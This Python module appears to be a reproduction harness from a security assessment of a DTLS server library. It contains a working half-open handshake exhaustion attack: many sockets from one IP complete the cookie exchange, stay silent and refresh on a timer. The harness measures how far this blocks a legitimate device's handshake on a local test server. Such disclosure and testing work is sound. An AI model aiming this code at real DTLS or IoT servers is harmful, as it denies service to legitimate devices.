"""Finding 2: half-open handshakes held from one IP address with many source ports.

:class:`HalfOpenRefresher` binds ``ports`` sockets to one address (127.0.0.2 by default). Each socket does a cookie
exchange (ClientHello, HelloVerifyRequest, ClientHello with the cookie), so the server creates a connection and
sends its flight, and then stays silent. Every ``period`` seconds each socket starts over with a fresh ClientHello
(new random, new cookie exchange), which on the current server replaces its own half-open connection and restarts
its handshake deadline: the slot never frees. The sockets' refreshes are spread evenly over the period.
"""

from __future__ import annotations

import contextlib
import heapq
import selectors
import socket
import threading
import time
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

from iotdtls import DTLSConfiguration, DTLSConnection

from .attack_common import (
    ServerCommand,
    ServerProcess,
    Timers,
    is_hello_verify_request,
    median,
    starts_flight,
    udp_socket,
)
from .attack_credentials import Credentials
from .attack_fleet import Fleet


@dataclass
class _Port:
    sock: socket.socket
    conn: DTLSConnection | None = None
    waiting_hvr: bool = False
    waiting_flight: bool = False


class HalfOpenRefresher:
    """Holds half-open handshakes from ``ip``; see the module docstring. Runs in a daemon thread."""

    def __init__(self, server: tuple[str, int], config: Callable[[], DTLSConfiguration], *, ip: str = "127.0.0.2",
                 ports: int = 200, period: float = 15.0, rcvbuf: int = 1 << 20) -> None:
        self.server = server
        self.config = config
        self.period = period
        self.ports = [_Port(udp_socket(ip, rcvbuf=rcvbuf)) for _ in range(ports)]
        self.sent_datagrams = self.sent_bytes = 0
        self.received_datagrams = self.received_bytes = 0
        self.refreshes = 0
        self.hello_verify_requests = 0
        #: Refreshes whose ClientHello with cookie the server answered with its flight (a slot taken or kept).
        self.flights = 0
        self.started = 0.0
        self.stopped: float | None = None
        self._stop = threading.Event()
        self._lock = threading.Lock()
        self._thread = threading.Thread(target=self._run, daemon=True, name="HalfOpenRefresher")

    def start(self) -> HalfOpenRefresher:
        self.started = time.monotonic()
        self._thread.start()
        return self

    def _send(self, port: _Port, data: bytes) -> None:
        with contextlib.suppress(OSError):
            port.sock.sendto(data, self.server)
            with self._lock:
                self.sent_datagrams += 1
                self.sent_bytes += len(data)

    def _refresh(self, port: _Port, now: float) -> None:
        conn = DTLSConnection(self.config())
        conn.connect(now)
        port.conn, port.waiting_hvr, port.waiting_flight = conn, True, False
        self.refreshes += 1
        for dgram in conn.datagrams_to_send(now):
            self._send(port, dgram)

    def _receive(self, port: _Port, data: bytes, now: float) -> None:
        with self._lock:
            self.received_datagrams += 1
            self.received_bytes += len(data)
        if port.waiting_hvr and port.conn is not None and is_hello_verify_request(data):
            self.hello_verify_requests += 1
            port.waiting_hvr, port.waiting_flight = False, True
            port.conn.receive_datagram(data, now)
            for dgram in port.conn.datagrams_to_send(now):  # the ClientHello with the cookie; then silence
                self._send(port, dgram)
        elif port.waiting_flight and starts_flight(data):
            port.waiting_flight = False
            self.flights += 1

    def _run(self) -> None:
        sel = selectors.DefaultSelector()
        schedule: list[tuple[float, int]] = []
        for i, port in enumerate(self.ports):
            sel.register(port.sock, selectors.EVENT_READ, port)
            heapq.heappush(schedule, (self.started + i * self.period / len(self.ports), i))
        while not self._stop.is_set():
            now = time.monotonic()
            while schedule and schedule[0][0] <= now:
                when, i = heapq.heappop(schedule)
                self._refresh(self.ports[i], now)
                heapq.heappush(schedule, (when + self.period, i))
            timeout = max(0.0, min(0.05, schedule[0][0] - time.monotonic())) if schedule else 0.05
            for key, _ in sel.select(timeout):
                ready: _Port = key.data
                for _ in range(16):
                    try:
                        data = ready.sock.recv(65536)
                    except (BlockingIOError, InterruptedError, OSError):
                        break
                    self._receive(ready, data, time.monotonic())
        sel.close()

    def packets_per_second(self) -> float:
        end = self.stopped or time.monotonic()
        return self.sent_datagrams / max(1e-9, end - self.started)

    def stop(self) -> None:
        self.stopped = time.monotonic()
        self._stop.set()
        self._thread.join(2.0)
        for port in self.ports:
            port.sock.close()

    def __enter__(self) -> HalfOpenRefresher:
        return self.start()

    def __exit__(self, *exc: object) -> None:
        if self.stopped is None:
            self.stop()


@dataclass
class LegitAttempt:
    established: bool
    seconds: float
    retransmissions: int
    echo: bool


def legit_handshake(fleet: Fleet, config: DTLSConfiguration, server: tuple[str, int], budget: float,
                    ip: str = "127.0.0.3") -> LegitAttempt:
    """One handshake (and one echo) of a legitimate device from ``ip``, with a handshake budget of ``budget``."""
    config.handshake_timeout = budget
    peer = fleet.add(config, server, ip=ip)
    start = time.monotonic()
    ok = fleet.handshake(peer, budget + 1.0)
    took = (peer.established or time.monotonic()) - start
    echo = ok and fleet.echo(peer, b"legit", 2.0)
    attempt = LegitAttempt(ok, took, peer.conn.retransmissions, echo)
    fleet.close(peer)
    return attempt


def run_slots(command: ServerCommand, creds: Credentials, timers: Timers, *, ports: int, period: float,
              legit_budget: float, max_handshakes: int | None = None, unloaded_tries: int = 3,
              legit_tries: int = 1) -> dict[str, Any]:
    """Finding 2: measure a legitimate device's handshake unloaded, then while one IP refreshes ``ports``
    half-open handshakes every ``period`` seconds."""
    args = [*creds.psk_args(), *timers.server_args()]
    if max_handshakes is not None:
        args += ["--max-handshakes", str(max_handshakes)]
    with ServerProcess(command, args) as server, Fleet() as fleet:
        unloaded = [legit_handshake(fleet, timers.client(creds.psk_client(b"dev3")), server.address, legit_budget)
                    for _ in range(unloaded_tries)]
        with HalfOpenRefresher(server.address, lambda: creds.psk_client(b"dev1"), ports=ports,
                               period=period) as attacker:
            time.sleep(period + min(1.0, period / 4))  # every port has taken its slot once
            flights_before, refreshes_before = attacker.flights, attacker.refreshes
            attempts = [legit_handshake(fleet, timers.client(creds.psk_client(b"dev3")), server.address,
                                        legit_budget) for _ in range(legit_tries)]
            attacker.stop()
        table = max_handshakes if max_handshakes is not None else 100
    unloaded_ok = [a.seconds for a in unloaded if a.established]
    return {
        "max_handshakes": table,
        "handshake_timeout_s": timers.handshake,
        "retransmit_initial_s": timers.initial,
        "attacker_ports": ports,
        "refresh_period_s": period,
        "attacker_packets_per_s": round(attacker.packets_per_second(), 1),
        "attacker_bytes_per_s": round(attacker.sent_bytes / max(1e-9, (attacker.stopped or 0) - attacker.started)),
        "attacker_refreshes": attacker.refreshes,
        "attacker_flights": attacker.flights,
        "attacker_refreshes_during_legit": attacker.refreshes - refreshes_before,
        "attacker_flights_during_legit": attacker.flights - flights_before,
        "unloaded_handshake_s": [round(s, 4) for s in unloaded_ok],
        "unloaded_handshake_max_s": max(unloaded_ok) if unloaded_ok else None,
        "unloaded_handshake_median_s": median(unloaded_ok) if unloaded_ok else None,
        "legit_budget_s": legit_budget,
        "legit_established": sum(a.established for a in attempts),
        "legit_tries": legit_tries,
        "legit_seconds": [round(a.seconds, 4) for a in attempts],
        "legit_retransmissions": [a.retransmissions for a in attempts],
        "legit_echo": sum(a.echo for a in attempts),
    }
